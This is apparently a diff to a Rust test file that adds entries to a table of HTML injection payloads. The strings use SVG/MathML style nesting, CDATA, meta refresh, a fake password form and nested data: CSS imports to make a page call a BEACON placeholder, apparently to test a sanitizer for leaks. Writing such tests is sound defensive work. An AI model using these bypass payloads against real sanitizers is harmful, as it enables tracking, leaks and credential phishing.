@@ -284,6 +284,46 @@ const ATTEMPTS: &[(&str, &str)] = &[
         "<link rel='alternate stylesheet' title='x' href='BEACON/link-others'><link rel='apple-touch-icon' href='BEACON/link-others'><link rel='preload' as='font' crossorigin href='BEACON/link-others'><link rel='preload' as='fetch' href='BEACON/link-others'>",
     ),
     (
+        "drawing-words",
+        "<svg><style>&lt;p&gt;&lt;link rel=preconnect href=BEACON/drawing-words&gt;&lt;img src=BEACON/drawing-words&gt;</style></svg>",
+    ),
+    (
+        "drawing-cdata",
+        "<svg><style><![CDATA[<p><link rel=preconnect href=BEACON/drawing-cdata><img src=BEACON/drawing-cdata>]]></style></svg>",
+    ),
+    (
+        "drawing-string",
+        "<svg><style>q{content:\"&lt;p&gt;&lt;/style&gt;&lt;link rel=preconnect href=BEACON/drawing-string&gt;&lt;img src=BEACON/drawing-string&gt;\"}</style></svg>",
+    ),
+    (
+        "drawing-refresh",
+        "<svg><style>&lt;p&gt;&lt;meta http-equiv=refresh content='0;url=BEACON/drawing-refresh'&gt;</style></svg>",
+    ),
+    (
+        "drawing-form",
+        "<svg><style>&lt;p&gt;&lt;form action=BEACON/drawing-form&gt;&lt;input type=password&gt;&lt;button&gt;x&lt;/button&gt;&lt;/form&gt;</style></svg>",
+    ),
+    (
+        "formula-words",
+        "<math><style>&lt;p&gt;&lt;link rel=preconnect href=BEACON/formula-words&gt;&lt;img src=BEACON/formula-words&gt;</style></math>",
+    ),
+    (
+        "formula-refresh",
+        "<math><mtext><svg><style>&lt;p&gt;&lt;meta http-equiv=refresh content='0;url=BEACON/formula-refresh'&gt;</style></svg></mtext></math>",
+    ),
+    (
+        "import-condition",
+        "<link rel=stylesheet href=\"data:text/css,@import 'data:text/css,p{}' (</style><link rel=preconnect href=BEACON/import-condition>);\">",
+    ),
+    (
+        "import-joined",
+        "<link rel=stylesheet href=\"data:text/css,<@import 'data:text/css,/style><img src=BEACON/import-joined>';\">",
+    ),
+    (
+        "import-open",
+        "<link rel=stylesheet href=\"data:text/css,@import 'data:text/css,p{content:%2522';p{content:%22;background:url(BEACON/import-open);%22}\">",
+    ),
+    (
         "speculation",
         "<script type='speculationrules'>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"BEACON/speculation\"]}]}</script>",
     ),
